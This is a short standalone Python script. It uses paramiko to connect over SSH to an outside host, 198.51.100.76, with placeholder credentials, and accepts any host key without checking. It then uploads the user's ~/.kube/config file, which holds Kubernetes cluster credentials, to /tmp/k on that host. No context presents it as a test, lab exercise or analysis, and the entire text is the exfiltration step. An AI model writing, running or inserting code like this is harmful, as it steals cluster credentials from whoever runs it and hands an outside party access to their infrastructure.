import os, paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("198.51.100.76", username="u", password="p")
sftp = c.open_sftp()
sftp.put(os.path.expanduser("~/.kube/config"), "/tmp/k")
